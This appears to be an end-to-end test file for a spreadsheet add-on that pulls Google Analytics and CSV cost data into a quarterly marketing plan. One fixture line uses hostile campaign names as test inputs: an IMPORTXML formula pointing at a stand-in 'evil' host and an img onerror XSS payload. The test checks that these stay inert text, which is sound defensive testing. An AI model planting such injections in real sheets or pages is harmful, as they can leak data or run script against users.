import { describe, expect, it } from 'vitest';
import type { PlanStart } from '../../src/app/api/plan-api.ts';
import { dataWords } from '../../src/messages/compiled/data.ts';
import { dataPanelWords } from '../../src/messages/compiled/data-panel.ts';
import { planAnswersWords } from '../../src/messages/compiled/plan-answers.ts';
import { googleAnalyticsWords } from '../../src/messages/compiled/sources/google-analytics.ts';
import { tablesWords } from '../../src/messages/compiled/sources/tables.ts';
import { change, named } from '../../src/sidebar/wizard/draft.ts';
import { draftOf } from '../../src/sidebar/wizard/draft-begun.ts';
import { newPlan } from '../../src/sidebar/wizard/new-plan.ts';
import { withProposals } from '../../src/sidebar/wizard/numbers/proposals.ts';
import { dayHeads, daysKey, lineKey } from '../../src/sources/data-rows.ts';
import type { Handle } from '../../src/workbench/page/handle.ts';
import type { ClockRequest, ExternalState } from '../../src/workbench/server/protocol.ts';
import { dayNumber } from '../../src/workbench/vendors/days.ts';
import type { FaultName } from '../../src/workbench/vendors/vendor.ts';
import { truth, truthBy } from '../kit/vendors/ga4-truth.ts';
import { next, quarterDesk, type Visitor } from './quarter-desk.ts';
import type { SeenPlan } from './seen-plan.ts';

const dataPanelEn = dataPanelWords('en');
const googleAnalyticsEn = googleAnalyticsWords('en');
const dataVi = dataWords('vi');
const dataPanelVi = dataPanelWords('vi');
const planAnswersVi = planAnswersWords('vi');
const googleAnalyticsVi = googleAnalyticsWords('vi');
const tablesVi = tablesWords('vi');

const desk = quarterDesk('vi', '2026-11-22');
const say = dataPanelVi;
const tab = 'Lan · Q4 2026';
const viet = 'properties/311000001';
const where = 'Google Analytics · Shop Việt';
const firstDay = dayNumber(2026, 10, 1);

interface Shared {
  readonly workbench: Handle;
}
const clock = (lan: Visitor, change: ClockRequest): Promise<ExternalState> =>
  lan.page.evaluate((asked) => (window as unknown as Shared).workbench.clock(asked), change);
const fault = (lan: Visitor, name: FaultName, on: boolean): Promise<void> =>
  lan.page.evaluate(([which, now]) => (window as unknown as Shared).workbench.fault(which, now), [
    name,
    on,
  ] as const);

/** Builds what the panel proposes for this quarter, with a target for leads. */
async function build(lan: Visitor): Promise<void> {
  const { ok: start } = (await lan.run('planStart')) as { ok: PlanStart };
  const first = { ...newPlan(start, 'vi'), quarter: { year: 2026, month: 10 } };
  const draft = named(withProposals(draftOf('new', { ...first, role: 'digital' }, 1)), 'Lan');
  const { plan } = change(draft, 'LEADS', { target: 1240 });
  expect(await lan.run('buildPlan', { plan, sample: false })).toHaveProperty('ok');
}

/** The page about a plan's data, read anew. */
async function toData(lan: Visitor): Promise<void> {
  await lan.home();
  await lan.click('.plans li:has-text("Lan") [data-data]');
  await lan.waitFor('[data-input]');
}

async function connect(
  lan: Visitor,
  button: string,
  name: string,
  property: string,
): Promise<void> {
  await lan.press(button);
  await lan.waitFor('.properties');
  await lan.fill('#account-search', name);
  await lan.page.keyboard.press('Enter');
  await lan.click(`[data-account="${property}"]`);
  await lan.click('.property .main');
  await lan.waitFor('.feeds');
}

/** Shows how something is taken, where it is not shown. */
async function unfold(lan: Visitor, input: string): Promise<void> {
  if ((await lan.panel.locator(`#${input}-metric`).count()) === 0)
    await lan.click(`#edit-${input}`);
}

async function save(lan: Visitor): Promise<void> {
  if ((await lan.panel.locator('#who').count()) > 0) await lan.fill('#who', 'Lan');
  await lan.click('footer .main');
  await lan.waitFor('.schedule');
}

async function refresh(lan: Visitor): Promise<void> {
  await lan.click('.refresh .main');
  await lan.waitFor('.refresh progress');
  await lan.waitFor('.refresh .main');
  await lan.settle();
}

const said = async (lan: Visitor, selector = 'main'): Promise<string> =>
  (await lan.panel.locator(selector).allTextContents()).join(' ');

/** The days of an input that hold a number on the sheet of days, as they are shown. */
async function daysOf(lan: Visitor, input: string): Promise<readonly string[]> {
  const { texts } = await lan.all(planAnswersVi.sharedTitle.days);
  const line = (is: (key: string) => boolean) => texts.find(([key = '']) => is(key)) ?? [];
  const days = line((key) => key === daysKey).slice(dayHeads.length);
  const numbers = line((key) => key === lineKey(input, viet)).slice(dayHeads.length);
  return days.filter((_, at) => (numbers[at] ?? '') !== '');
}

const logged = async (lan: Visitor): Promise<string> => {
  const { texts } = await lan.all(planAnswersVi.sharedTitle.log);
  return texts.map((line) => line.join(' | ')).join('\n');
};

const campaigns = ['Sale 11.11', '=IMPORTXML("http://evil","//a")', '<img src=x onerror=alert(1)>'];
/** What every campaign cost in the days that the table holds. */
const spent = [1_200_000, 350_000, 50_000];
const tableDays = ['09', '10', '11', '12'];
const costs = (last: string): string =>
  [
    'Ngày,Tên chiến dịch,Số tiền đã chi tiêu (VND)',
    // Nothing was spent before: without this line nobody would know.
    '01/10/2026,Sale 11.11,0',
    ...tableDays.flatMap((day, at) =>
      campaigns.map((name, which) => {
        const amount = at === 3 && which === 2 ? last : String(spent[which]);
        return `${day}/11/2026,"${name.replaceAll('"', '""')}",${amount}`;
      }),
    ),
  ].join('\n');

async function importTable(lan: Visitor, name: string, text: string): Promise<void> {
  const chooser = lan.page.waitForEvent('filechooser');
  await lan.menu('Tệp', 'Nhập tệp CSV…');
  const file = { name: `${name}.csv`, mimeType: 'text/csv', buffer: Buffer.from(text) };
  await (await chooser).setFiles(file);
  await expect.poll(() => lan.sheets()).toContain(name);
  await lan.settle();
}

const week = (plan: SeenPlan, at: number, input: string) =>
  plan.value('input', plan.keys('input')[at] ?? '', input);

describe('data that flows in', () => {
  it('fills the quarter after a property is connected, and says which days are provisional', async () => {
    const lan = desk.visitor();
    await build(lan);
    await lan.openPanel();
    await toData(lan);
    expect(await said(lan)).toContain(say.page.none);
    await connect(lan, googleAnalyticsVi.connect, 'shop viet', viet);
    // A conversion is what its user says it is: nothing is saved before.
    await lan.panel.locator('[data-input="CVR.conversions"] .values label').first().waitFor();
    await lan.click(next);
    expect(await said(lan, '.asks .choose')).toContain(googleAnalyticsVi.chooseEvent);
    await lan.click('.asks .values label:has-text("generate_lead")');
    await unfold(lan, 'LEADS');
    await lan.choose('#LEADS-split', 'sessionCampaignName');
    await save(lan);
    await refresh(lan);

    const plan = await lan.plan(tab);
    const asked = { property: viet, from: dayNumber(2026, 11, 9), to: dayNumber(2026, 11, 15) };
    expect(week(plan, 7, 'TRAFFIC')).toBe(truth({ ...asked, metric: 'sessions' }));
    const leads = truth({ ...asked, metric: 'eventCount', only: [isLead] });
    expect(week(plan, 7, 'LEADS')).toBe(leads);
    const filled = plan.keys('input').map((_, at) => week(plan, at, 'LEADS'));
    expect(filled.slice(9)).toEqual(Array(7).fill(null));
    const total = filled.reduce<number>((sum, each) => sum + Number(each), 0);
    expect(plan.value('score', 'LEADS', 'actual')).toBe(total);
    expect(plan.text('score', 'LEADS', 'status')).toMatch(/^[●▲■]/);
    expect(plan.shows('số liệu chốt đến 18/11, 3 ngày tạm tính')).toBe(true);
    expect(plan.errors()).toEqual([]);
    expect(await said(lan)).toContain(
      dataVi.said.through({ name: 'Lan', where, day: '21/11/2026' }),
    );
    // Days are read as days.
    expect((await daysOf(lan, 'TRAFFIC'))[0]).toBe('01/10/2026');
  });
  const isLead = { dimension: 'eventName', is: ['generate_lead'] };

  it('says what went wrong and what to do, keeps what was there, and heals', async () => {
    const lan = desk.visitor();
    const { noPermission, quotaOwnHour } = googleAnalyticsVi.troubles;
    // What was fetched just now is not fetched again.
    await clock(lan, { hours: 1 });
    await fault(lan, 'noPermission', true);
    await refresh(lan);
    expect(await said(lan, '.problem')).toContain(noPermission.what({ where }));
    expect(await said(lan, '.problem')).toContain(noPermission.way);
    await fault(lan, 'noPermission', false);
    const before = await lan.plan(tab);
    await fault(lan, 'quotaHour', true);
    await refresh(lan);
    expect(await said(lan, '.problem')).toContain(quotaOwnHour.what({ where }));
    expect(await said(lan, '.problem')).toContain(quotaOwnHour.way);
    await lan.home();
    expect(await said(lan, '.plans .error')).toContain(quotaOwnHour.what({ where }));
    expect((await lan.plan(tab)).cells.texts).toEqual(before.cells.texts);
    await fault(lan, 'quotaHour', false);
    // A quota is waited for, until the hour is over.
    await clock(lan, { hours: 2 });
    await toData(lan);
    await refresh(lan);
    expect(await lan.panel.locator('.problem').count()).toBe(0);
    expect(await logged(lan)).toContain(dataVi.log.healed({ where }));
  });

  it('comes by itself, one more day each day', async () => {
    const lan = desk.visitor();
    await lan.choose('#schedule-every', 'day');
    await lan.click('.schedule [type=submit]');
    await lan.waitFor('.schedule .good');
    const before = await daysOf(lan, 'TRAFFIC');
    const { triggers } = await clock(lan, { hours: 24 });
    expect(triggers).toHaveLength(1);
    await lan.settle();
    const days = await daysOf(lan, 'TRAFFIC');
    expect(new Set(days).size).toBe(days.length);
    expect(days.length).toBe(before.length + 1);
    expect(days.at(-1)).toBe('22/11/2026');
    const plan = await lan.plan(tab);
    expect(plan.text('score', 'TRAFFIC', 'through')).toBe('22/11/2026');
    expect(plan.shows('số liệu chốt đến 19/11, 3 ngày tạm tính')).toBe(true);
  });

  it('takes costs from a table, and calls the cell by its name that is no number', async () => {
    const lan = desk.visitor();
    await importTable(lan, 'chi phi', costs('n/a'));
    await toData(lan);
    await lan.click('[data-another]');
    await lan.press(tablesVi.connect);
    await lan.waitFor('#table-sheet');
    const [value] = await lan.panel
      .locator('#table-sheet option', { hasText: 'chi phi' })
      .evaluateAll((options) => options.map((each) => (each as HTMLOptionElement).value));
    await lan.choose('#table-sheet', value ?? '');
    await lan.waitFor('#table-day');
    expect(await lan.panel.locator('#table-day').inputValue()).toBe('Ngày');
    expect(await lan.panel.locator('.sample img').count()).toBe(0);
    await lan.click('main form .main');
    await lan.waitFor('.feeds');
    await lan.panel.locator('#from-CPL-cost').selectOption({ label: 'chi phi' });
    await unfold(lan, 'CPL-cost');
    await lan.choose('#CPL-cost-metric', 'Số tiền đã chi tiêu (VND)');
    await lan.choose('#CPL-cost-split', 'Tên chiến dịch');
    // The cell that is no number is called by its name.
    await lan.panel.locator('.previews', { hasText: 'C14' }).waitFor();
    await save(lan);
    await refresh(lan);
    expect(await said(lan, '.problem')).toContain('C14');
    const plan = await lan.plan(tab);
    expect(plan.text('score', 'CPL', 'through')).toBe('11/11/2026');
    expect(plan.errors()).toEqual([]);
  });

  it('tells campaigns apart, adds up before it divides, and leaves their names texts', async () => {
    const lan = desk.visitor();
    await lan.type('C14', String(spent[2]), 'chi phi');
    // Which segments are the largest of both is seen once both can be asked for the whole quarter.
    await clock(lan, { hours: 1 });
    await refresh(lan);
    expect(await lan.panel.locator('.problem').count()).toBe(0);
    const plan = await lan.plan(tab);
    const value = (row: string, column: string) => plan.value('split', row, column);
    const named = new Map(plan.keys('split').map((key) => [plan.text('split', key, 'title'), key]));
    const sale = named.get('Sale 11.11') ?? '';
    const through = dayNumber(2026, 11, 12);
    const leads = truthBy(
      { property: viet, metric: 'eventCount', from: firstDay, to: through, only: [isLead] },
      'sessionCampaignName',
    );
    expect(value(sale, 'CPL')).toBeCloseTo(
      ((spent[0] ?? 0) * tableDays.length) / (leads.get('Sale 11.11') ?? 0),
      6,
    );
    const all = spent.reduce((sum, each) => sum + each, 0) * tableDays.length;
    const every = [...leads.values()].reduce((sum, each) => sum + each, 0);
    expect(value('total', 'CPL')).toBeCloseTo(all / every, 6);
    expect(plan.value('score', 'CPL', 'actual')).toBe(value('total', 'CPL'));
    expect(named.has(campaigns[1] ?? '')).toBe(true);
    for (const title of [planAnswersVi.sharedTitle.data, planAnswersVi.sharedTitle.days]) {
      const { formulas } = await lan.all(title);
      expect(formulas.flat().filter((each) => each !== '')).toEqual([]);
    }
    expect(plan.formulas().filter((each) => /^=\s*IMPORT/i.test(each))).toEqual([]);
    expect(plan.errors()).toEqual([]);
  });

  it('speaks English where the panel does: the page, its mapping and what is provisional', async () => {
    const lan = desk.visitor();
    await lan.panel.locator('.languages [lang=en]').click();
    await lan.waitFor('.languages [lang=en][aria-pressed=true]');
    await toData(lan);
    expect(await said(lan, '[data-input=TRAFFIC]')).toContain(
      dataPanelEn.home.provisional({ days: 3 }),
    );
    await lan.click('[data-another]');
    await connect(lan, googleAnalyticsEn.connect, 'shop us', 'properties/311000003');
    await unfold(lan, 'TRAFFIC');
    const mapping = await said(lan, '[data-input=TRAFFIC]');
    for (const words of ['metric', 'addTest', 'split'] as const)
      expect(mapping).toContain(dataPanelEn.map[words]);
  });
});
